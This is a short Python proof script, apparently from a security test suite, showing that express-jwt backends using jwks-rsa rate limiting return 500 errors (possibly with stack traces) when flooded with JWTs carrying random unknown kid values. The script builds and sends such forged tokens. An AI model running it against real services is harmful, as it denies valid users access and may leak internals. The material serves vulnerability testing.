"""Proof for express-jwt-rate-limit-500: a 5xx for anyone who sends tokens with unknown kids.

jwks-rsa's `rateLimit: true` allows 10 JWKS fetches a minute; a kid that is not in its cache costs
one. Past the limit getSigningKey rejects with JwksRateLimitError, which is no UnauthorizedError, so
the express-jwt README's error handler passes it to Express's default handler: 500 (with the stack
trace in the body unless NODE_ENV=production). Once the limit is spent, even valid tokens whose kid
has left the 10-minute cache get the 500.

The proof sends up to 30 requests, each with the header of a real JWT but a fresh random kid (the
claims and signature of the real token are kept: the key lookup comes before any signature check),
and reports the flaw at the first 5xx (must_report: server-error; may_report: leak). A backend that
answers 4xx to all 30 does not have it.
"""

import json
import secrets

import zoolib


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    real_header, _ = zoolib.decode_unverified(real)
    _, payload_b64, signature_b64 = real.split(".")
    statuses = []
    for i in range(1, 31):
        header = dict(real_header, kid="unknown-" + secrets.token_hex(8))
        header_b64 = zoolib.b64u(json.dumps(header, separators=(",", ":")).encode())
        token = f"{header_b64}.{payload_b64}.{signature_b64}"
        status, _, body = zoolib.me(backend, token)
        statuses.append(status)
        if status >= 500:
            print(f"sent: {i} tokens, each with a new unknown kid; statuses {statuses}")
            zoolib.show(f"request {i}", status, body)
            return True
    print(f"sent: 30 tokens, each with a new unknown kid; statuses {statuses}")
    return False


if __name__ == "__main__":
    zoolib.main(prove)
